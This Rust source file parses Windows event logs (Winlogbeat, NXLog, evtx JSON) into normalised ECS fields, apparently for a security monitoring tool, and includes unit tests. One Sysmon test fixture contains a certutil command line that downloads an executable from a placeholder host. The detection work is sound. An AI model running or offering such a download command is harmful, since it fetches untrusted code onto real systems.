//! Windows event logs as JSON, in three shapes:
//!
//! 1. **Winlogbeat / ECS**: `winlog.event_id`, `winlog.channel`,
//!    `winlog.provider_name`, `winlog.computer_name`,
//!    `winlog.event_data.*`, `host.name`, `@timestamp` (nested objects or
//!    dotted keys). Kept as sent (flattened), with the normalised fields
//!    below added.
//! 2. **NXLog** (`im_msvistalog`, also as shipped through Logstash):
//!    `EventID`, `SourceName`, `Channel`, `Hostname`, `EventTime`,
//!    `Severity`/`SeverityValue`, `Keywords`, `EventType`, ... with the
//!    event's EventData entries as further top-level keys.
//! 3. **evtx_dump / SigmaHQ regression data**: `{"Event":{"System":{..},
//!    "EventData":{..}}}`, `EventID` a number or `{"#text":..}`, times and
//!    names under `#attributes`.
//!
//! Every shape is normalised to `event.code` (the event id as text),
//! `winlog.event_id`, `winlog.channel`, `winlog.provider_name`,
//! `winlog.computer_name` and `host.name`, `winlog.record_id`,
//! `winlog.event_data.<Name>` for every EventData entry under its original
//! Sysmon/Security name (what Sigma rules match on; unnamed `Data` items
//! become `param1`, `param2`, ...), `winlog.user_data.*`, and ECS where the
//! meaning is plain:
//!
//! | EventData | ECS |
//! |---|---|
//! | `Image` (Sysmon), `NewProcessName` (4688), `Application` (5156) | `process.executable`, `process.name` |
//! | `CommandLine` | `process.command_line` |
//! | `ProcessId`, `ProcessGuid` | `process.pid`, `process.entity_id` |
//! | `ParentImage`, `ParentProcessName` | `process.parent.executable` |
//! | `ParentCommandLine`, `ParentProcessId` | `process.parent.command_line`, `process.parent.pid` |
//! | `CurrentDirectory` | `process.working_directory` |
//! | `User` (`DOMAIN\name`) | `user.name`, `user.domain` |
//! | `TargetUserName`, `TargetDomainName` (else `SubjectUserName`, `SubjectDomainName`) | `user.name`, `user.domain` |
//! | `Hashes` (`SHA1=..,MD5=..,SHA256=..,IMPHASH=..`) | `process.hash.*` for Sysmon 1, else `file.hash.*` (and `*.pe.imphash`) |
//! | `SourceIp`, `SourcePort`, `SourceHostname` | `source.ip`, `source.port`, `source.domain` |
//! | `DestinationIp`, `DestinationPort`, `DestinationHostname` | `destination.ip`, `destination.port`, `destination.domain` |
//! | `SourceAddress`, `DestAddress`, `DestPort` (5156) | `source.ip`, `destination.ip`, `destination.port` |
//! | `Protocol` (Sysmon 3) | `network.transport` |
//! | `IpAddress`, `IpPort`, `WorkstationName` (4624/4625/...) | `source.ip`, `source.port`, `source.domain` |
//! | `LogonType` | `winlog.logon.type` (`Interactive`, `Network`, ...) |
//! | `QueryName` (Sysmon 22) | `dns.question.name` |
//! | `TargetFilename`, `ImageLoaded` | `file.path`, `file.name` |
//! | `TargetObject` | `registry.path` |
//! | `ScriptBlockText` (PowerShell 4104) | `powershell.file.script_block_text` |
//!
//! `event.outcome` is `success`/`failure` from the audit keywords (and
//! 4624/4625).
//!
//! Severity, from the level (evtx `Level` number, NXLog `Severity` /
//! `SeverityValue`, Winlogbeat `log.level`), aligned with syslog's scale in
//! `severity`: critical (`Level` 1, NXLog 5) → 80, error (2, NXLog 4) →
//! 70, warning (3, NXLog 3) → 50, information (4 or 0, NXLog 2) → 20,
//! verbose (5, NXLog 1 / debug) → 10; an event without a level is 20. The
//! keyword *Audit Failure* (bit 52 of `Keywords`, or the words, or NXLog's
//! `EventType` `AUDIT_FAILURE`) raises it to at least 50.
//!
//! The event time is `@timestamp`, else the System `TimeCreated`
//! (`SystemTime`), else an NXLog `EventTime`/`TimeCreated` with a zone,
//! else Sysmon's `UtcTime`, else `EventTime`/`TimeCreated` without a zone
//! read as UTC (NXLog writes local time there; the first choices avoid
//! it).

use serde_json::{Map, Value as Json};

use crate::json::{int_of, ip_value, kind_of, parse_object, parse_time, text_of};
use crate::{Context, Fields, Format, ParseError, Parsed, Value};

/// NXLog's own keys (not EventData), and Logstash's.
const NXLOG_ENVELOPE: &[&str] = &[
    "EventTime",
    "EventReceivedTime",
    "Hostname",
    "Keywords",
    "SeverityValue",
    "Severity",
    "EventID",
    "SourceName",
    "ProviderGuid",
    "Version",
    "Task",
    "OpcodeValue",
    "Opcode",
    "RecordNumber",
    "ExecutionProcessID",
    "ExecutionThreadID",
    "ThreadID",
    "Channel",
    "Domain",
    "AccountName",
    "UserID",
    "AccountType",
    "Category",
    "Message",
    "Level",
    "TimeCreated",
    "SourceModuleName",
    "SourceModuleType",
    "@timestamp",
    "@version",
    "host",
    "port",
    "tags",
];

/// What the three shapes have in common, read before normalising.
#[derive(Default)]
struct Win<'a> {
    event_id: Option<String>,
    channel: Option<String>,
    provider: Option<String>,
    computer: Option<String>,
    record_id: Option<i64>,
    /// 1 critical .. 5 verbose (evtx numbering).
    level: Option<i64>,
    audit_failure: bool,
    audit_success: bool,
    data: Vec<(&'a str, &'a Json)>,
}

/// Parses one Windows event (any of the three shapes) given as one JSON
/// object.
///
/// # Errors
/// When the text is not a JSON object, or an object in none of the three
/// shapes.
pub fn parse(line: &str, _ctx: &Context) -> Result<Parsed, ParseError> {
    let obj = parse_object(line, Format::WindowsJson)?;
    let mut out = Parsed {
        fields: Fields::with_capacity(obj.len() + 16),
        ..Parsed::default()
    };
    let win = if let Some(ev) = obj.get("Event") {
        let Json::Object(ev) = ev else {
            return Err(ParseError::new(
                Format::WindowsJson,
                format!(
                    "Event is a JSON {}, expected an object with System and EventData",
                    kind_of(ev)
                ),
            ));
        };
        evtx(ev, &mut out)?
    } else if obj.get("winlog").is_some_and(Json::is_object)
        || obj.keys().any(|k| k.starts_with("winlog."))
    {
        winlogbeat(&obj, &mut out)
    } else if obj.contains_key("EventID") {
        nxlog(&obj, &mut out)
    } else {
        return Err(ParseError::new(
            Format::WindowsJson,
            "not a Windows event: the object has no winlog (Winlogbeat), EventID (NXLog) or Event.System (evtx)",
        ));
    };
    normalise(&win, &mut out);
    Ok(out)
}

fn evtx<'a>(ev: &'a Map<String, Json>, out: &mut Parsed) -> Result<Win<'a>, ParseError> {
    let Some(Json::Object(sys)) = ev.get("System") else {
        return Err(ParseError::new(
            Format::WindowsJson,
            "not a Windows event: Event has no System object",
        ));
    };
    let mut w = Win {
        event_id: sys.get("EventID").and_then(|v| text_of(hash_text(v))),
        channel: sys.get("Channel").and_then(|v| text_of(hash_text(v))),
        computer: sys.get("Computer").and_then(|v| text_of(hash_text(v))),
        provider: attr(sys.get("Provider"), "Name").and_then(text_of),
        record_id: sys.get("EventRecordID").and_then(|v| int_of(hash_text(v))),
        level: sys.get("Level").and_then(|v| int_of(hash_text(v))),
        ..Win::default()
    };
    if let Some(t) = attr(sys.get("TimeCreated"), "SystemTime").and_then(Json::as_str) {
        out.timestamp = parse_time(t);
    }
    if let Some(k) = sys.get("Keywords") {
        keywords(&mut w, hash_text(k));
    }
    let f = &mut out.fields;
    for (key, name) in [
        ("Task", "winlog.task"),
        ("Opcode", "winlog.opcode"),
        ("Version", "winlog.version"),
    ] {
        if let Some(v) = sys.get(key).map(hash_text)
            && let Some(value) = Value::from_json(v)
        {
            f.set(name, value);
        }
    }
    if let Some(pid) = attr(sys.get("Execution"), "ProcessID").and_then(int_of) {
        f.set("winlog.process.pid", pid);
    }
    if let Some(tid) = attr(sys.get("Execution"), "ThreadID").and_then(int_of) {
        f.set("winlog.process.thread.id", tid);
    }
    if let Some(uid) = attr(sys.get("Security"), "UserID").and_then(Json::as_str) {
        f.set_text("winlog.user.identifier", uid);
    }
    if let Some(g) = attr(sys.get("Provider"), "Guid").and_then(Json::as_str) {
        f.set_text("winlog.provider_guid", g);
    }
    match ev.get("EventData") {
        Some(Json::Object(d)) => collect_data(d, &mut w.data),
        Some(Json::Array(items)) => w.data.extend(items.iter().map(|v| ("Data", v))),
        Some(v @ Json::String(_)) => w.data.push(("Data", v)),
        _ => {}
    }
    if let Some(ud) = ev.get("UserData")
        && ud.is_object()
    {
        f.flatten_json("winlog.user_data", ud);
    }
    Ok(w)
}

/// EventData entries: named ones as they are, attributes skipped.
fn collect_data<'a>(d: &'a Map<String, Json>, data: &mut Vec<(&'a str, &'a Json)>) {
    for (k, v) in d {
        if k == "#attributes" {
            continue;
        }
        if k == "Data" || k == "#text" {
            // Unnamed data: a list, a text, or {"#text": ...}.
            match hash_text(v) {
                Json::Array(items) => data.extend(items.iter().map(|i| ("Data", i))),
                other => data.push(("Data", other)),
            }
        } else {
            data.push((k.as_str(), v));
        }
    }
}

fn winlogbeat<'a>(obj: &'a Map<String, Json>, out: &mut Parsed) -> Win<'a> {
    // Kept as sent: the names are already ECS and winlog.*.
    for (k, v) in obj {
        if k == "@timestamp"
            && let Some(ts) = v.as_str().and_then(parse_time)
        {
            out.timestamp = Some(ts);
            continue;
        }
        out.fields.flatten_json(k, v);
    }
    let f = &out.fields;
    let get = |name: &str| -> Option<String> {
        f.get(name).and_then(|v| match v {
            Value::Str(s) => Some(s.clone()),
            Value::Int(n) => Some(n.to_string()),
            _ => None,
        })
    };
    let mut w = Win {
        event_id: get("winlog.event_id").or_else(|| get("event.code")),
        channel: get("winlog.channel"),
        provider: get("winlog.provider_name").or_else(|| get("event.provider")),
        computer: get("winlog.computer_name").or_else(|| get("host.name")),
        record_id: f.get("winlog.record_id").and_then(Value::as_i64),
        level: get("log.level").and_then(|l| level_word(&l)),
        ..Win::default()
    };
    let lookup = |path: &str| crate::json::lookup(obj, path);
    if let Some(k) = lookup("winlog.keywords") {
        keywords(&mut w, k);
    }
    if let Some(outcome) = lookup("event.outcome").and_then(Json::as_str) {
        w.audit_failure |= outcome == "failure";
        w.audit_success |= outcome == "success";
    }
    if let Some(Json::Object(d)) = lookup("winlog.event_data") {
        collect_data(d, &mut w.data);
    } else {
        let prefix = "winlog.event_data.";
        w.data.extend(
            obj.iter()
                .filter_map(|(k, v)| k.strip_prefix(prefix).map(|name| (name, v))),
        );
    }
    w
}

fn nxlog<'a>(obj: &'a Map<String, Json>, out: &mut Parsed) -> Win<'a> {
    let s = |k: &str| obj.get(k).and_then(text_of);
    let mut w = Win {
        event_id: s("EventID"),
        channel: s("Channel"),
        provider: s("SourceName"),
        computer: s("Hostname"),
        record_id: obj.get("RecordNumber").and_then(int_of),
        ..Win::default()
    };
    // Level: Severity words, else SeverityValue (1 debug .. 5 critical),
    // else the evtx Level number.
    w.level = obj
        .get("Severity")
        .and_then(Json::as_str)
        .and_then(level_word)
        .or_else(|| {
            obj.get("SeverityValue").and_then(int_of).map(|v| match v {
                5.. => 1,
                4 => 2,
                3 => 3,
                2 => 4,
                _ => 5,
            })
        })
        .or_else(|| obj.get("Level").and_then(int_of));
    if let Some(k) = obj.get("Keywords") {
        keywords(&mut w, k);
    }
    // NXLog's EventType is AUDIT_SUCCESS, INFO, ...; Sysmon's registry
    // events have an EventData field of the same name (SetValue, ...).
    let nx_type = obj.get("EventType").and_then(Json::as_str).filter(|t| {
        matches!(
            *t,
            "AUDIT_SUCCESS"
                | "AUDIT_FAILURE"
                | "INFO"
                | "WARNING"
                | "ERROR"
                | "CRITICAL"
                | "VERBOSE"
                | "DEBUG"
        )
    });
    match nx_type {
        Some("AUDIT_FAILURE") => w.audit_failure = true,
        Some("AUDIT_SUCCESS") => w.audit_success = true,
        _ => {}
    }
    let f = &mut out.fields;
    let times = ["@timestamp", "TimeCreated", "EventTime"];
    for key in times {
        if let Some(t) = obj.get(key).and_then(Json::as_str)
            && has_zone(t)
            && let Some(ts) = parse_time(t)
        {
            out.timestamp = Some(ts);
            break;
        }
    }
    if out.timestamp.is_none() {
        for key in ["UtcTime", "EventTime", "TimeCreated"] {
            if let Some(ts) = obj.get(key).and_then(Json::as_str).and_then(parse_time) {
                out.timestamp = Some(ts);
                break;
            }
        }
    }
    for (key, name) in [
        ("Task", "winlog.task"),
        ("Category", "winlog.category"),
        ("Opcode", "winlog.opcode"),
        ("Version", "winlog.version"),
        ("ProviderGuid", "winlog.provider_guid"),
        ("ExecutionProcessID", "winlog.process.pid"),
        ("ThreadID", "winlog.process.thread.id"),
        ("ExecutionThreadID", "winlog.process.thread.id"),
        ("AccountName", "winlog.user.name"),
        ("Domain", "winlog.user.domain"),
        ("UserID", "winlog.user.identifier"),
        ("AccountType", "winlog.user.type"),
        ("Message", "message"),
        ("EventTime", "winlog.event_time"),
        ("TimeCreated", "winlog.time_created"),
        ("Severity", "log.level"),
        ("host", "observer.hostname"),
        ("tags", "tags"),
    ] {
        if let Some(v) = obj.get(key)
            && let Some(value) = Value::from_json(v)
            && !v.is_object()
        {
            f.set(name, value);
        }
    }
    if let Some(t) = nx_type {
        f.set("winlog.nxlog.event_type", t);
    }
    for (k, v) in obj {
        if NXLOG_ENVELOPE.contains(&k.as_str()) || (k == "EventType" && nx_type.is_some()) {
            continue;
        }
        w.data.push((k.as_str(), v));
    }
    w
}

/// Everything the three shapes share.
fn normalise(w: &Win<'_>, out: &mut Parsed) {
    let f = &mut out.fields;
    f.set_default("event.module", "windows");
    if let Some(id) = &w.event_id {
        f.set("event.code", id.clone());
        let value = id
            .trim()
            .parse::<i64>()
            .map_or_else(|_| Value::Str(id.clone()), Value::Int);
        f.set("winlog.event_id", value);
    }
    if let Some(c) = &w.channel {
        f.set_text("winlog.channel", c);
    }
    if let Some(p) = &w.provider {
        f.set_text("winlog.provider_name", p);
        f.set_default("event.provider", p.clone());
    }
    if let Some(c) = &w.computer {
        f.set_text("winlog.computer_name", c);
        if f.get("host.name").is_none() {
            f.set_text("host.name", c);
        }
    }
    if let Some(r) = w.record_id {
        f.set("winlog.record_id", r);
    }
    f.set_default("event.kind", "event");

    let mut sev = match w.level {
        Some(1) => 80,
        Some(2) => 70,
        Some(3) => 50,
        Some(5) => 10,
        _ => 20,
    };
    if w.audit_failure {
        sev = sev.max(50);
        f.set("event.outcome", "failure");
    } else if w.audit_success {
        f.set_default("event.outcome", "success");
    }
    out.severity = sev;

    let sysmon = w.provider.as_deref() == Some("Microsoft-Windows-Sysmon")
        || w.channel
            .as_deref()
            .is_some_and(|c| c.eq_ignore_ascii_case("Microsoft-Windows-Sysmon/Operational"));
    let id = w
        .event_id
        .as_deref()
        .and_then(|i| i.trim().parse::<i64>().ok());

    let mut param = 0usize;
    let mut name = String::with_capacity(48);
    for &(key, v) in &w.data {
        name.clear();
        name.push_str("winlog.event_data.");
        if key == "Data" {
            param += 1;
            name.push_str("param");
            name.push_str(&param.to_string());
        } else {
            name.push_str(key);
        }
        if v.is_object() {
            let inner = hash_text(v);
            if inner.is_object() {
                f.flatten_json(&name, v);
            } else if let Some(value) = Value::from_json(inner) {
                f.set(name.clone(), value);
            }
            continue;
        }
        let Some(value) = Value::from_json(v) else {
            continue;
        };
        f.set(name.clone(), value);
        if let Some(text) = text_of(v) {
            ecs_from_data(f, key, &text, sysmon, id);
        }
    }
    if f.get("user.name").is_none() {
        for (user, domain) in [
            ("TargetUserName", "TargetDomainName"),
            ("SubjectUserName", "SubjectDomainName"),
        ] {
            let u = data_text(w, user);
            if let Some(u) = u.as_deref().filter(|u| !u.is_empty() && *u != "-") {
                f.set("user.name", u);
                if let Some(d) = data_text(w, domain).filter(|d| !d.is_empty() && d != "-") {
                    f.set("user.domain", d);
                }
                break;
            }
        }
    }
    match id {
        Some(4624) if !w.audit_failure => f.set("event.outcome", "success"),
        Some(4625) => {
            f.set("event.outcome", "failure");
            out.severity = out.severity.max(50);
        }
        _ => {}
    }
}

fn data_text(w: &Win<'_>, key: &str) -> Option<String> {
    w.data
        .iter()
        .find(|(k, _)| *k == key)
        .and_then(|(_, v)| text_of(v))
}

/// ECS fields from one EventData entry.
fn ecs_from_data(f: &mut Fields, key: &str, text: &str, sysmon: bool, id: Option<i64>) {
    let t = text.trim();
    if t.is_empty() || t == "-" {
        return;
    }
    match key {
        "Image" | "NewProcessName" | "Application" => {
            f.set("process.executable", t);
            f.set("process.name", base_name(t));
        }
        "CommandLine" => f.set("process.command_line", t),
        "ProcessId" if sysmon => set_num(f, "process.pid", t),
        "ProcessGuid" if sysmon => f.set("process.entity_id", t),
        "ParentImage" | "ParentProcessName" => {
            f.set("process.parent.executable", t);
            f.set("process.parent.name", base_name(t));
        }
        "ParentCommandLine" => f.set("process.parent.command_line", t),
        "ParentProcessId" if sysmon => set_num(f, "process.parent.pid", t),
        "ParentProcessGuid" if sysmon => f.set("process.parent.entity_id", t),
        "CurrentDirectory" => f.set("process.working_directory", t),
        "User" => match t.split_once('\\') {
            Some((domain, user)) => {
                f.set("user.domain", domain);
                f.set("user.name", user);
            }
            None => f.set("user.name", t),
        },
        "Hashes" | "Hash" => {
            let prefix = if sysmon && id == Some(1) {
                "process"
            } else {
                "file"
            };
            for part in t.split(',') {
                if let Some((algo, value)) = part.split_once('=') {
                    let algo = algo.trim().to_ascii_lowercase();
                    let value = value.trim();
                    let name = match algo.as_str() {
                        "md5" | "sha1" | "sha256" | "sha384" | "sha512" => {
                            format!("{prefix}.hash.{algo}")
                        }
                        "imphash" => format!("{prefix}.pe.imphash"),
                        _ => continue,
                    };
                    f.set(name, value);
                }
            }
        }
        "SourceIp" | "SourceAddress" | "IpAddress" => {
            if let Value::Ip(ip) = ip_value(t) {
                f.set("source.ip", ip);
            }
        }
        "SourcePort" | "IpPort" if t != "0" => {
            f.set_port("source.port", t);
        }
        "SourceHostname" | "WorkstationName" => f.set("source.domain", t),
        "DestinationIp" | "DestAddress" => {
            if let Value::Ip(ip) = ip_value(t) {
                f.set("destination.ip", ip);
            }
        }
        "DestinationPort" | "DestPort" => {
            f.set_port("destination.port", t);
        }
        "DestinationHostname" => f.set("destination.domain", t),
        "Protocol" if sysmon => f.set("network.transport", t.to_ascii_lowercase()),
        "QueryName" => f.set("dns.question.name", t),
        "TargetFilename" | "ImageLoaded" => {
            f.set("file.path", t);
            f.set("file.name", base_name(t));
        }
        "TargetObject" => f.set("registry.path", t),
        "ScriptBlockText" => f.set("powershell.file.script_block_text", t),
        "LogonType" => {
            let name = match t {
                "2" => "Interactive",
                "3" => "Network",
                "4" => "Batch",
                "5" => "Service",
                "7" => "Unlock",
                "8" => "NetworkCleartext",
                "9" => "NewCredentials",
                "10" => "RemoteInteractive",
                "11" => "CachedInteractive",
                "12" => "CachedRemoteInteractive",
                "13" => "CachedUnlock",
                other => other,
            };
            f.set("winlog.logon.type", name);
        }
        _ => {}
    }
}

fn set_num(f: &mut Fields, name: &'static str, t: &str) {
    let n = t.strip_prefix("0x").map_or_else(
        || t.parse::<i64>().ok(),
        |hex| i64::from_str_radix(hex, 16).ok(),
    );
    if let Some(n) = n {
        f.set(name, n);
    }
}

fn base_name(path: &str) -> &str {
    path.rsplit(['\\', '/']).next().unwrap_or(path)
}

/// Reads the audit keywords: a number (bit 52 failure, bit 53 success;
/// NXLog writes them as a signed 64-bit number), hex text, or words.
fn keywords(w: &mut Win<'_>, k: &Json) {
    let bits = match k {
        Json::Number(n) => n
            .as_i64()
            .map(|i| u64::from_ne_bytes(i.to_ne_bytes()))
            .or_else(|| n.as_u64()),
        Json::String(s) => {
            let s = s.trim();
            if let Some(hex) = s.strip_prefix("0x").or_else(|| s.strip_prefix("0X")) {
                u64::from_str_radix(hex, 16).ok()
            } else {
                let l = s.to_ascii_lowercase();
                w.audit_failure |= l.contains("audit failure");
                w.audit_success |= l.contains("audit success");
                None
            }
        }
        Json::Array(items) => {
            for i in items {
                keywords(w, i);
            }
            None
        }
        _ => None,
    };
    if let Some(b) = bits {
        w.audit_failure |= b & (1 << 52) != 0;
        w.audit_success |= b & (1 << 53) != 0;
    }
}

/// A level word to the evtx number.
fn level_word(s: &str) -> Option<i64> {
    Some(match s.trim().to_ascii_lowercase().as_str() {
        "critical" | "crit" | "fatal" => 1,
        "error" | "err" => 2,
        "warning" | "warn" => 3,
        "information" | "informational" | "info" => 4,
        "verbose" | "debug" => 5,
        _ => return None,
    })
}

/// Whether a time text carries a zone (`Z` or an offset after the time).
fn has_zone(t: &str) -> bool {
    let t = t.trim();
    t.ends_with('Z')
        || t.ends_with('z')
        || t.get(19..).is_some_and(|rest| rest.contains(['+', '-']))
}

/// `{"#text": x, "#attributes": ..}` → x; anything else as it is.
fn hash_text(v: &Json) -> &Json {
    match v {
        Json::Object(o) => o.get("#text").unwrap_or(v),
        _ => v,
    }
}

/// `v["#attributes"][name]`.
fn attr<'a>(v: Option<&'a Json>, name: &str) -> Option<&'a Json> {
    v?.get("#attributes")?.get(name)
}

#[cfg(test)]
mod tests {
    use garrison_core::Timestamp;

    use super::*;

    fn p(line: &str) -> Parsed {
        parse(line, &Context::at(Timestamp::from_millis(0))).expect("parse")
    }

    #[test]
    fn evtx_sysmon_process_creation() {
        let e = p(
            r##"{"Event":{"#attributes":{"xmlns":"x"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F"}},"EventID":{"#attributes":{"Qualifiers":""},"#text":1},"Level":4,"Keywords":"0x8000000000000000","TimeCreated":{"#attributes":{"SystemTime":"2025-10-24T23:34:34.640670Z"}},"EventRecordID":14961,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"dc.example.local"},"EventData":{"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://x/a.exe a.exe","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"EXAMPLE\\alice","Hashes":"SHA1=AA,MD5=BB,SHA256=CC,IMPHASH=DD","ProcessId":7760}}}"##,
        );
        assert_eq!(e.timestamp, Timestamp::parse("2025-10-24T23:34:34.640Z"));
        assert_eq!(e.fields.get_str("event.code"), Some("1"));
        assert_eq!(e.fields.get("winlog.event_id"), Some(&Value::Int(1)));
        assert_eq!(e.fields.get_str("host.name"), Some("dc.example.local"));
        assert_eq!(
            e.fields.get_str("process.command_line"),
            Some("certutil -urlcache -f http://x/a.exe a.exe")
        );
        assert_eq!(e.fields.get_str("process.name"), Some("certutil.exe"));
        assert_eq!(
            e.fields.get_str("winlog.event_data.CommandLine"),
            Some("certutil -urlcache -f http://x/a.exe a.exe")
        );
        assert_eq!(e.fields.get_str("user.name"), Some("alice"));
        assert_eq!(e.fields.get_str("user.domain"), Some("EXAMPLE"));
        assert_eq!(e.fields.get_str("process.hash.sha256"), Some("CC"));
        assert_eq!(e.fields.get("process.pid"), Some(&Value::Int(7760)));
        assert_eq!(e.severity, 20);
    }

    #[test]
    fn nxlog_failed_logon() {
        let e = p(
            r#"{"EventTime":"2020-09-22 14:10:07","@timestamp":"2020-09-22T18:10:10.004Z","Hostname":"WS5.example.local","Keywords":-9218868437227405312,"EventType":"AUDIT_FAILURE","SeverityValue":4,"Severity":"ERROR","EventID":4625,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","TargetUserName":"bob","TargetDomainName":"EXAMPLE","LogonType":"3","IpAddress":"10.0.0.9","IpPort":"5050","host":"wec"}"#,
        );
        assert_eq!(e.timestamp, Timestamp::parse("2020-09-22T18:10:10.004Z"));
        assert_eq!(e.fields.get_str("user.name"), Some("bob"));
        assert_eq!(
            e.fields.get("source.ip"),
            Some(&Value::Ip("10.0.0.9".parse().expect("ip")))
        );
        assert_eq!(e.fields.get("source.port"), Some(&Value::Int(5050)));
        assert_eq!(e.fields.get_str("winlog.logon.type"), Some("Network"));
        assert_eq!(e.fields.get_str("winlog.event_data.LogonType"), Some("3"));
        assert_eq!(e.fields.get_str("event.outcome"), Some("failure"));
        assert_eq!(
            e.fields.get_str("winlog.computer_name"),
            Some("WS5.example.local")
        );
        assert!(e.fields.get("winlog.event_data.Hostname").is_none());
        assert!(e.fields.get("winlog.event_data.EventType").is_none());
        assert_eq!(e.severity, 70);
    }

    #[test]
    fn nxlog_sysmon_registry_keeps_event_type() {
        let e = p(
            r#"{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":13,"EventType":"SetValue","Hostname":"WS5","TimeCreated":"2020-10-19 12:29:00.013","UtcTime":"2020-10-19 04:29:00.004","SourceName":"Microsoft-Windows-Sysmon","TargetObject":"HKLM\\x","Image":"C:\\a.exe"}"#,
        );
        assert_eq!(
            e.fields.get_str("winlog.event_data.EventType"),
            Some("SetValue")
        );
        assert_eq!(e.fields.get_str("registry.path"), Some("HKLM\\x"));
        assert_eq!(
            e.timestamp,
            Timestamp::parse("2020-10-19T04:29:00.004Z"),
            "UtcTime before a zoneless time"
        );
    }

    #[test]
    fn winlogbeat_shape() {
        let e = p(
            r#"{"@timestamp":"2024-01-01T00:00:00.000Z","host":{"name":"ws1"},"log":{"level":"warning"},"winlog":{"event_id":"3","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"ws1.corp","event_data":{"DestinationIp":"192.0.2.5","DestinationPort":"443","SourceIp":"10.0.0.5","Protocol":"tcp"}}}"#,
        );
        assert_eq!(e.fields.get_str("event.code"), Some("3"));
        assert_eq!(e.fields.get_str("host.name"), Some("ws1"));
        assert_eq!(
            e.fields.get("destination.ip"),
            Some(&Value::Ip("192.0.2.5".parse().expect("ip")))
        );
        assert_eq!(e.fields.get("destination.port"), Some(&Value::Int(443)));
        assert_eq!(
            e.fields.get_str("winlog.event_data.DestinationIp"),
            Some("192.0.2.5")
        );
        assert_eq!(e.severity, 50);
    }

    #[test]
    fn not_windows() {
        let ctx = Context::at(Timestamp::from_millis(0));
        assert!(
            parse(r#"{"a":1}"#, &ctx)
                .expect_err("no")
                .reason
                .contains("EventID")
        );
        assert!(
            parse(r#"{"Event":1}"#, &ctx)
                .expect_err("no")
                .reason
                .contains("number")
        );
        assert!(
            parse(r#"{"Event":{}}"#, &ctx)
                .expect_err("no")
                .reason
                .contains("System")
        );
    }
}
